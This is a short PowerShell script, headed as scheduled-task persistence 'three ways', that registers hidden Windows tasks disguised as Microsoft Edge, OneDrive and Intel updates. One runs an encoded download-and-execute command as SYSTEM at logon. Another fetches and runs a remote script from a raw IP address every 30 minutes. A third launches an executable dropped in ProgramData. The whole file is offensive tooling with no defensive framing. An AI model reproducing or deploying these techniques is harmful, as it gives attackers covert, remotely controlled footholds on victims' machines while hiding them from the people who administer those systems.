# scheduled-task persistence, three ways
$enc = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'

$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -EncodedCommand $enc"
$trigger = New-ScheduledTaskTrigger -AtLogOn
$principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskCore' -Action $action -Trigger $trigger -Principal $principal -Force

schtasks.exe /create /tn 'OneDrive Standalone Update' /sc minute /mo 30 /tr "powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://193.29.57.4/t')" /f

$svc = New-Object -ComObject 'Schedule.Service'
$svc.Connect()
$def = $svc.NewTask(0)
$def.Settings.Hidden = $true
$t = $def.Triggers.Create(9)
$t.Enabled = $true
$a = $def.Actions.Create(0)
$a.Path = 'C:\ProgramData\Intel\igfx.exe'
$svc.GetFolder('\').RegisterTaskDefinition('IntelGraphicsRefresh', $def, 6, $null, $null, 3) | Out-Null
